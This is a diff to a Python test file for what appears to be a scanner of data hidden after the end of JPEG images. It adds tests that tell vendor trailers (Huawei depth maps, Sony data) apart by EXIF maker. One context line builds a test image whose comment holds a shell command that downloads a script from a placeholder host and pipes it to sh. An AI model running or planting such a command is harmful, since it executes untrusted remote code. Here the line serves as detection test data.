@@ -5,10 +5,10 @@ from __future__ import annotations
 import struct
 from typing import TYPE_CHECKING
 
-from corrupt_samples.encode import jpeg
+from corrupt_samples.encode import jpeg, jpeg_segment
 from corrupt_samples.pictures import photo
-from corrupt_samples.surgery import noise
-from tests.embedding import canon, fotostation, samsung_trailer
+from corrupt_samples.surgery import jpeg_inserted, noise
+from tests.embedding import APP1, DQT, canon, fotostation, samsung_trailer
 
 if TYPE_CHECKING:
     from tests.conftest import Fired
@@ -48,6 +48,40 @@ def test_a_picture_is_a_vendor_s_own_only_where_its_trailer_lists_it(fired: Fire
     assert found == {"listed.jpg": "info", "before.jpg": "warning", "within.jpg": "warning"}
     code = jpeg(photo("b", 60, 40), comment=b"#!/bin/sh\ncurl http://a.example/x | sh\n")
     assert fired("embedded-payload", {"code.jpg": jpeg(photo("a")) + samsung_trailer(NOISE, code)})
+
+
+def of_maker(maker: bytes) -> bytes:
+    """A JPEG whose EXIF data name who has made the camera."""
+    entry = struct.pack("<HHHII", 1, 0x10F, 2, len(maker) + 1, 26)
+    block = b"II*\0" + struct.pack("<I", 8) + entry + bytes(4) + maker + b"\0"
+    return jpeg_inserted(jpeg(photo("a")), DQT, jpeg_segment(APP1, b"Exif\0\0" + block))
+
+
+def depths(columns: int, rows: int) -> bytes:
+    """Depths as phones of Huawei write them: a name, a header and a byte for each pixel."""
+    head = b"\1\0\0\0edof" + bytes(12 + 4) + struct.pack("<HH", columns, rows) + bytes(48)
+    return head + noise("depths", columns * rows)
+
+
+def test_what_only_cameras_of_one_maker_append_is_told_where_the_exif_data_name_it(fired: Fired) -> None:
+    huawei = bytes(9) + NOISE + jpeg(photo("b", 60, 40)) + NOISE + depths(20, 30) + b"\1" * 12
+    sony = b"\x55\x26\x11\x05\0" + NOISE
+    files = {
+        "huawei.jpg": of_maker(b"HUAWEI") + huawei,
+        "honor.jpg": of_maker(b"HONOR") + depths(20, 30),
+        "sony.jpg": of_maker(b"SONY") + sony,
+    }
+    others = {
+        "other.jpg": of_maker(b"OTHER") + huawei,
+        "no camera.jpg": jpeg(photo("a")) + sony,
+        "cut.jpg": of_maker(b"HUAWEI") + depths(20, 30)[:-1],
+        "within.jpg": of_maker(b"SONY") + NOISE + sony,
+    }
+    found = fired(RULE, files | others | {f"sound {number}.jpg": jpeg(photo(str(number))) for number in range(3)})
+    severities = {name: severity for name, (severity, _message) in found.items()}
+    assert severities == dict.fromkeys(files, "info") | dict.fromkeys(others, "warning")
+    assert "a Huawei depth map" in found["huawei.jpg"][1]
+    assert "Sony's hidden data" in found["sony.jpg"][1]
 
 
 def test_what_ends_like_a_vendor_s_trailer_and_has_not_its_structure_is_unknown(fired: Fired) -> None:
